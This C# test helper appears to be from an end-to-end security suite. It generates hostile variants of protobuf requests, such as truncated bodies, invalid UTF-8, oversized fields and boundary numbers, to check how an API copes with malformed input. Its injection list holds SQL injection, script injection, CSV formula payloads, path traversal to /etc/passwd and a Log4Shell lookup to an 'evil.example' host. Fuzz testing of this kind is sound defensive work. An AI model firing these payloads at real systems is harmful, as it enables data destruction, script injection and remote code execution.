using System.Collections;
using Google.Protobuf;
using Google.Protobuf.Reflection;

namespace EndToEnd.Tests.Security;

/// <summary>
/// Generates hostile variants of a valid request, field by field from its descriptor (and one level into its messages):
/// random and truncated bodies, broken wire format, invalid UTF-8, huge strings and batches, boundary and absurd
/// numbers, unknown enum values, and injection strings (SQL, HTML/script, CSV formulas, path and template tricks).
/// </summary>
public static class HostileRequests
{
    private static readonly string[] Injections =
    [
        "' OR '1'='1' --", "'; DROP TABLE products; --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "../../../../etc/passwd",
        "\0", "${jndi:ldap://evil.example/a}", "{{7*7}}", "\u202Egnp.exe", "🙂👩‍👩‍👧", "products/../workspaces/*", "products/*",
        "products/00000000-0000-0000-0000-000000000000", "%n%s%x",
    ];

    private static readonly byte[] InvalidUtf8 = [0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80];

    public static IEnumerable<HostileRequest> For(IMessage valid, Random random)
    {
        var body = valid.ToByteArray();
        foreach (var length in new[] { 1, 64, 4096 }) yield return new($"{length} random bytes", Bytes(random, length), false);
        if (body.Length > 1)
        {
            yield return new("the body cut short", body[..random.Next(1, body.Length)], false);
            yield return new("the body without its last byte", body[..^1], false);
        }
        yield return new("a truncated varint after the body", [.. body, 0xFF, 0xFF, 0xFF, 0xFF], false);
        yield return new("an invalid wire type after the body", [.. body, 0x0F], false);

        var fields = valid.Descriptor.Fields.InFieldNumberOrder();
        foreach (var field in fields.Where(f => !f.IsMap))
        {
            foreach (var (label, value, plausible) in Values(field, random))
                yield return new($"{field.Name} = {label}", Mutated(valid, m => Set(m, field, value)), plausible);
            if (field.FieldType == FieldType.String)
                yield return new($"{field.Name} = invalid UTF-8", [.. body, .. LengthDelimited(field.FieldNumber, InvalidUtf8)], false);
            if (field.FieldType != FieldType.Message || field.IsRepeated) continue;
            foreach (var nested in field.MessageType.Fields.InFieldNumberOrder().Where(f => !f.IsMap))
            {
                foreach (var (label, value, plausible) in Values(nested, random))
                    yield return new($"{field.Name}.{nested.Name} = {label}", Mutated(valid, m => Set(Child(m, field), nested, value)), plausible);
                if (nested.FieldType == FieldType.String)
                {
                    // A second occurrence of a message field merges into the first, so only the nested string changes.
                    var inner = LengthDelimited(nested.FieldNumber, InvalidUtf8);
                    yield return new($"{field.Name}.{nested.Name} = invalid UTF-8", [.. body, .. LengthDelimited(field.FieldNumber, inner)], false);
                }
            }
        }
        if (fields.FirstOrDefault(f => f.FieldType == FieldType.String && !f.IsRepeated) is { } first)
            yield return new($"{first.Name} = 5 MB of text", Mutated(valid, m => first.Accessor.SetValue(m, new string('x', 5_000_000))), false);
    }

    private static IEnumerable<(string Label, object Value, bool Plausible)> Values(FieldDescriptor field, Random random)
    {
        switch (field.FieldType)
        {
            case FieldType.String when field.IsRepeated:
                yield return ("10,000 entries", new Batch(10_000), false);
                foreach (var injection in Injections.OrderBy(_ => random.Next()).Take(2)) yield return (Quote(injection), injection, true);
                break;
            case FieldType.String:
                yield return ("100,000 characters", new string('x', 100_000), false);
                foreach (var injection in Injections.OrderBy(_ => random.Next()).Take(3)) yield return (Quote(injection), injection, true);
                break;
            case FieldType.Int32 or FieldType.SInt32 or FieldType.SFixed32:
                foreach (var n in new[] { int.MaxValue, int.MinValue, -1 }) yield return (n.ToString(System.Globalization.CultureInfo.InvariantCulture), n, false);
                break;
            case FieldType.Int64 or FieldType.SInt64 or FieldType.SFixed64:
                foreach (var n in new[] { long.MaxValue, long.MinValue, -1L }) yield return (n.ToString(System.Globalization.CultureInfo.InvariantCulture), n, false);
                break;
            case FieldType.UInt32 or FieldType.Fixed32:
                yield return ("uint.MaxValue", uint.MaxValue, false);
                break;
            case FieldType.UInt64 or FieldType.Fixed64:
                yield return ("ulong.MaxValue", ulong.MaxValue, false);
                break;
            case FieldType.Double:
                foreach (var d in new[] { double.NaN, double.PositiveInfinity, double.NegativeInfinity, double.MaxValue, -double.MaxValue })
                    yield return (d.ToString(System.Globalization.CultureInfo.InvariantCulture), d, false);
                break;
            case FieldType.Float:
                foreach (var f in new[] { float.NaN, float.PositiveInfinity, float.MinValue }) yield return (f.ToString(System.Globalization.CultureInfo.InvariantCulture), f, false);
                break;
            case FieldType.Enum:
                foreach (var n in new[] { 9999, -1 }) yield return ($"enum value {n}", Enum.ToObject(field.EnumType.ClrType, n), false);
                break;
            case FieldType.Bytes:
                yield return ("100,000 random bytes", ByteString.CopyFrom(Bytes(random, 100_000)), false);
                break;
            case FieldType.Message when field.IsRepeated:
                yield return ("5,000 elements", new Batch(5_000), false);
                break;
        }
    }

    private static void Set(IMessage message, FieldDescriptor field, object value)
    {
        if (!field.IsRepeated)
        {
            field.Accessor.SetValue(message, value);
            return;
        }
        var list = (IList)field.Accessor.GetValue(message);
        if (value is not Batch batch)
        {
            list.Add(value);
            return;
        }
        var element = field.FieldType == FieldType.Message
            ? list.Count > 0 ? list[0]! : field.MessageType.Parser.ParseFrom(ByteString.Empty)
            : null;
        for (var i = 0; i < batch.Count; i++) list.Add(element ?? "x" + i);
    }

    /// <summary>Stands for a repeated field filled to <paramref name="Count"/> entries.</summary>
    private sealed record Batch(int Count);

    private static IMessage Child(IMessage message, FieldDescriptor field)
    {
        if (field.Accessor.GetValue(message) is IMessage existing) return existing;
        var created = field.MessageType.Parser.ParseFrom(ByteString.Empty);
        field.Accessor.SetValue(message, created);
        return created;
    }

    private static byte[] Mutated(IMessage valid, Action<IMessage> mutate)
    {
        var copy = valid.Descriptor.Parser.ParseFrom(valid.ToByteString());
        mutate(copy);
        return copy.ToByteArray();
    }

    private static byte[] LengthDelimited(int fieldNumber, byte[] content)
    {
        using var stream = new MemoryStream();
        var output = new CodedOutputStream(stream);
        output.WriteTag(fieldNumber, WireFormat.WireType.LengthDelimited);
        output.WriteBytes(ByteString.CopyFrom(content));
        output.Flush();
        return stream.ToArray();
    }

    private static byte[] Bytes(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static string Quote(string value) => "\"" + (value.Length > 40 ? value[..40] + "…" : value) + "\"";
}
